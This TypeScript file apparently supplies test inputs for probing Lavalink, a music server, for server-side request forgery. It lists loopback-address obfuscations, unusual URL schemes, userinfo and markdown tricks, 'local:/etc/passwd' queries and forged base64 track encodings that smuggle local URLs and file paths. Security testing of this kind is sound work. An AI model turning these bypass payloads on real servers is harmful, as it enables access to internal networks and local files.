/** What an attacker types or forges to make Lavalink fetch something from its own network. */
import { encodeTrack } from '../../sandbox/lavalink/track/encoding.ts';

/** `here`: `host:port` of a listener on loopback. */
export function typedAddresses(port: number): string[] {
  const hosts = [
    ...[
      '127.0.0.1',
      'localhost',
      'LOCALHOST',
      'localhost.',
      'a.localhost',
      '127.1',
      '127.0.1',
      '2130706433',
      '0x7f000001',
    ],
    ...[
      '0x7f.1',
      '0177.0.0.1',
      '017700000001',
      '0',
      '0.0.0.0',
      '[::1]',
      '[::]',
      '[::ffff:127.0.0.1]',
      '[::ffff:7f00:1]',
    ],
    ...['１２７.０.０.１', 'ｌocalhost', '127。0。0。1', '%31%32%37.0.0.1', '127.0.0.1.', '[64:ff9b::7f00:1]'],
  ];
  const direct = hosts.map((host) => `http://${host}:${port}/typed`);
  const here = `127.0.0.1:${port}/typed`;
  return [
    ...direct,
    ...['HTTP', 'https', 'ftp', 'file', 'gopher', 'icy', 'rtmp', 'jar:http'].map((scheme) => `${scheme}://${here}`),
    ...[`http:${here}`, `http:/${here}`, `http:\\\\${here}`, `//${here}`, `${here}`, `localhost:${port}/typed`],
    ...[
      `http://a@${here}`,
      `http://youtube.com@${here}`,
      `http://youtube.com:80@${here}`,
      `http://youtube.com%2f@${here}`,
    ],
    ...[
      `<http://${here}>`,
      `**http://${here}**`,
      `\`http://${here}\``,
      `[song](http://${here})`,
      `listen to http://${here}`,
    ],
    ...['soundcloud', 'bandcamp', 'http', 'local', 'youtube', 'vimeo', 'twitch', 'demo'].map(
      (source) => `${source}:http://${here}`,
    ),
    ...['local:/etc/passwd', 'local:http', 'sprec:seed', 'dzisrc:x'].map((text) => `${text}?http://${here}`),
    ...forgedTracks(port)
      .map(({ encoded }) => `encoded:${encoded}`)
      .filter((query) => query.length <= 500)
      .slice(0, 20),
  ];
}

interface Forged {
  name: string;
  encoded: string;
}

const info = {
  ...{ isSeekable: true, author: 'Anyone', length: 200_000, isStream: false, position: 0, title: 'A song' },
  ...{ uri: null, artworkUrl: null, isrc: null },
};

/** Tracks in Lavalink's own encoding, none of which a source ever made. */
export function forgedTracks(port: number): Forged[] {
  const hosts = ['127.0.0.1', 'localhost', '[::1]', '2130706433', '0x7f.1', 'x@127.0.0.1'];
  const addresses = hosts.map((host) => `http://${host}:${port}/forged`);
  const [first = ''] = addresses;
  const forge = (sourceName: string, identifier: string, uri: string | null = null) => ({
    name: `${sourceName} ${identifier} ${uri ?? ''}`.trim(),
    encoded: encodeTrack({ ...info, sourceName, identifier, uri }),
  });
  const sources = [
    'bandcamp',
    'vimeo',
    'twitch',
    'nico',
    'http',
    'youtube',
    'demo',
    'getyarn.io',
    'flowery-tts',
    'ytdlp',
  ];
  const preview = encodeTrack({ ...info, sourceName: 'spotify', identifier: '4uLU6hMCjMI75M1A2tKUQC' });
  const names = ['spotify', 'deezer', 'applemusic', 'tidal'];
  return [
    ...['U:', 'O:', 'M:', 'X:', '', 'U:O:'].flatMap((prefix) =>
      addresses.map((address) => forge('soundcloud', `${prefix}${address}`)),
    ),
    ...sources.flatMap((source) => addresses.slice(0, 3).map((address) => forge(source, address))),
    // Fetched when the identifier is none.
    ...addresses.map((address) => forge('soundcloud', '123', address)),
    // Hosts that look like the source's own.
    ...['bandcamp.com@127.0.0.1', 'bandcamp.com.localhost', '127.0.0.1/bandcamp.com', '127.0.0.1#bandcamp.com'].map(
      (host) => forge('bandcamp', `http://${host.replace(/(127\.0\.0\.1|localhost)/, `$1:${port}`)}`),
    ),
    forge('bandcamp', `https://bandcamp.com\\@127.0.0.1:${port}/ ${first}`),
    forge('bandcamp', `https://bandcamp.com/ ${first}`),
    forge('bandcamp', `https://bandcamp.com/\n${first}`),
    forge('local', first),
    forge('local', '/etc/passwd', first),
    ...names.map((sourceName) => ({
      name: `${sourceName} preview`,
      encoded: withOwnFields(
        encodeTrack({ ...info, sourceName, identifier: 'abc123' }),
        [null, null, null, null, first],
        true,
      ),
    })),
    { name: 'both flags', encoded: flagged(forge('http', first).encoded) },
    { name: 'spotify with bytes that are no fields', encoded: withBytes(preview, Buffer.from(`\u0007${first}`)) },
  ];
}

/** With the fields that LavaSrc's sources add before the position: optional texts, then whether the preview plays. */
function withOwnFields(encoded: string, texts: readonly (string | null)[], isPreview: boolean): string {
  const parts = texts.map((text) => {
    if (text === null) return Buffer.from([0]);
    const bytes = Buffer.from(text);
    const head = Buffer.from([1, bytes.length >> 8, bytes.length & 0xff]);
    return Buffer.concat([head, bytes]);
  });
  return withBytes(encoded, Buffer.concat([...parts, Buffer.from([isPreview ? 1 : 0])]));
}

function withBytes(encoded: string, added: Buffer): string {
  const bytes = Buffer.from(encoded, 'base64');
  const body = Buffer.concat([bytes.subarray(4, -8), added, bytes.subarray(-8)]);
  const head = Buffer.alloc(4);
  head.writeUInt32BE(((1 << 30) | body.length) >>> 0);
  return Buffer.concat([head, body]).toString('base64');
}

function flagged(encoded: string): string {
  const bytes = Buffer.from(encoded, 'base64');
  bytes.writeUInt8(bytes.readUInt8(0) | 0x80, 0);
  return bytes.toString('base64');
}
